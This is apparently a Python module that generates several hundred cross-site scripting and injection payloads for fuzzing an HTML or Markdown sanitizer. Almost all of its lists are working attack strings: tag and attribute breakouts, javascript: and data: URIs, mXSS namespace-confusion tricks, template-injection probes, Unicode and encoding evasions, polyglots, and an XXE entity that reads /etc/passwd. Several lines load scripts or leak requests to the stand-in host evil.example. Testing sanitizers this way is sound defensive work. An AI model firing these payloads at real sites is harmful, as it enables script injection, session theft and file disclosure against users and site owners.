"""Ways to make a page do what its owner never wrote, put together by a few grammars: 500 and more, each another."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import cycle, product
from urllib.parse import quote

#: What an attack does once it runs. Each of them is seen by whoever looks.
_DEEDS = cycle(["alert(1)", "confirm(1)", "prompt(1)", "alert`1`", "top.alert(1)", "window.name='ran'", "print()"])

#: What ends the element, the attribute or the text that the attack stands in.
_BREAKOUTS = [
    *("", '">', "'>", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</noscript>", "</details>"),
    *('"/>', "`>", "</a></p>", "\u2028", '"}]}</script>', "*/</style>", "%>", "</template>", "\n\n"),
]

_ELEMENTS = [
    "<script>{}</script>",
    "<img src=data:,x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<iframe src=javascript:{}></iframe>",
    "<object data=javascript:{}></object>",
    "<style onload={}></style>",
    "<ScRiPt >{}</sCrIpT\t>",
]

_HANDLERS = ["onmouseover", "onfocus", "onclick", "onpointerenter", "onanimationstart", "onerror", "onload", "ontoggle"]
_QUOTED = ['" {0}={1} x="', "' {0}={1} x='", '" autofocus tabindex=0 {0}={1} "', "` {0}={1} `", '"{0}={1}//']

_SCHEMES = [
    *("javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "javascript&colon;{}"),
    *("&#106;avascript:{}", "&#x6A;avascript:{}", "javascript://x%0A{}", "javascript:{}//https://", "vbscript:{}"),
    *("data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,{}"),
    *("data:image/svg+xml,<svg onload={}>", "blob:{}", "view-source:javascript:{}", "feed:javascript:{}", "jar:{}"),
]
_HOLDERS = [
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    '<a href="{}">x</a>',
    "<form action='{}'><button>x</button></form>",
    "{}",
]

_TEMPLATES = [
    *(
        "{{1234*5678}}",
        "${1234*5678}",
        "#{1234*5678}",
        "<%= 1234*5678 %>",
        "{%raw%}{{1234*5678}}{%endraw%}",
        "@(1234*5678)",
    ),
    *("{{''.__class__.__mro__}}", "{{config}}", "{% include 'base.html' %}", "{{ cycler.__init__.__globals__ }}"),
    *("{{constructor.constructor('alert(1)')()}}", "[[${1234*5678}]]", "{{=1234*5678}}", "{php}alert(1){/php}"),
    *(
        "{{<script>}}alert(1){{</script>}}",
        "{# x #}<script>alert(1)</script>",
        "%(title)s %s {0} {title} {}",
        "$(alert(1))",
    ),
]

_STYLES = [
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<p style=background:url(//evil.example/x.png)>x</p>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "</style><link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x.png>",
    "<link rel=prefetch href=//evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>",
    ";}body{background:url(//evil.example/y.png)}",
    "\\3c script\\3e alert(1)\\3c/script\\3e",
    "<body background=//evil.example/x.png>",
    "<table background=//evil.example/x.png><td>x</table>",
    "expression(alert(1))",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<img srcset='//evil.example/x.png 1x' onerror=alert(1)>",
    "<picture><source srcset=//evil.example/x.webp><img src=data:,x></picture>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<video poster=//evil.example/x.png></video>",
    "<embed src=//evil.example/x.swf>",
    "<object data=//evil.example/x></object>",
    "<iframe src=//evil.example/></iframe>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<input type=image src=//evil.example/x.png>",
    "<form action=//evil.example/><button autofocus>x</button></form>",
    "<a ping=//evil.example/ href=/x>x</a>",
    'https://www.youtube.com/embed/x" onload="alert(1)',
    "<iframe src='https://www.youtube.com.evil.example/embed/aaaaaaaaaaa'></iframe>",
    "<iframe src=\"https://www.youtube.com/embed/aaaaaaaaaaa?x='onload=alert(1)\" title='\"><img src=data:,x onerror=alert(1)>'></iframe>",
    'https://youtu.be/aaaaaaaaaaa"onclick=alert(1)',
    "<a href=https://a.example data-player=javascript:alert(1)>x</a>",
    "<p class='embed youtube'><a href=https://a.example data-player=//evil.example/>x</a></p>",
]

_FOREIGN = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><img src=data:,x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"></svg>",
    "<svg><image href=//evil.example/x.png></svg>",
    "<svg><style><img src=data:,x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=data:,x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=data:,x onerror=alert(1)>",
    "<math><mi><table><mglyph><style><!--</style><img title='--><img src=data:,x onerror=alert(1)>'>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=data:,x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=data:,x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<plaintext><svg/onload=alert(1)>",
    "<select><template><style><img src=data:,x onerror=alert(1)></style></template></select>",
    "<!--><svg/onload=alert(1)>-->",
    "<!--!><svg/onload=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<svg/onload=alert(1)>]]>",
    "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "</content:encoded></item><item><title>x</title>",
    "]]></content:encoded><script>alert(1)</script>",
    "<dialog open><form method=dialog><button autofocus onfocus=alert(1)>x</button></form></dialog>",
    "<div popover id=x onbeforetoggle=alert(1)></div><button popovertarget=x autofocus>x</button>",
    "<table><a href=javascript:alert(1)><td><a href=y>x",
    "`<script>alert(1)</script>`<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "|<script>|\n|-|\n|<svg/onload=alert(1)>|",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "# <svg/onload=alert(1)>",
    '# x" onclick=alert(1) y="',
    "<h2 id=player onclick=alert(1)>x</h2>",
    "<form id=document><input name=cookie></form><a id=defaultView>x</a>",
    '[x](https://a.example "\\" onclick=alert(1)")',
    '![x" onerror="alert(1)](data:,x)',
]

_LETTERS = [
    *("＜script＞alert(1)＜/script＞", "<\u200bscript>alert(1)</script>", "<scr\u00adipt>alert(1)</scr\u00adipt>"),
    *("\u202e<svg/onload=alert(1)>", "\ufeff<svg/onload=alert(1)>", "<\u0130mg src=data:,x onerror=alert(1)>"),
    *(
        "<ſcript>alert(1)</ſcript>",
        "<ıframe src=javascript:alert(1)>",
        "\u2028alert(1)//",
        "\u2029</script><svg/onload=alert(1)>",
    ),
    *("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3csvg/onload=alert(1)\\x3e", "+ADw-script+AD4-alert(1)"),
    *(
        "\u00bcscript\u00bealert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Csvg/onload=alert(1)%253E",
        "\u0085<svg/onload=alert(1)>",
    ),
]

_POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\"onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//",
    "';alert(String.fromCharCode(88))//\";alert(1)//--></script>\">'><script>alert(1)</script>",
    '\\"-alert(1)-\\"}//</script><svg/onload=alert(1)>',
    '"}, "@type": "x", "y": {"z": "</script><script>alert(1)</script>',
    '<!--<script>"</script><svg/onload=alert(1)>',
    "</ScRiPt ><svg/onload=alert(1)>",
    "'-alert(1)-'",
    "\\';alert(1);//",
    "default-src *; script-src 'unsafe-inline'",
    "x' 'unsafe-inline' *",
    'en" onload="alert(1)',
]


def _made() -> Iterator[str]:
    for breakout, element in product(_BREAKOUTS, _ELEMENTS):
        yield breakout + element.format(next(_DEEDS))
    for handler, quoted in product(_HANDLERS, _QUOTED):
        yield quoted.format(handler, next(_DEEDS))
    for scheme, holder in product(_SCHEMES, _HOLDERS):
        yield holder.format(scheme.format(next(_DEEDS)))
    for plain in (*_STYLES, *_FOREIGN, *_LETTERS, *_POLYGLOTS, *_TEMPLATES):
        yield plain
    for plain in (*_FOREIGN[:10], *_STYLES[:10]):
        yield escape(plain)
        yield escape(escape(plain))
        yield quote(plain)


PAYLOADS = tuple(dict.fromkeys(_made()))
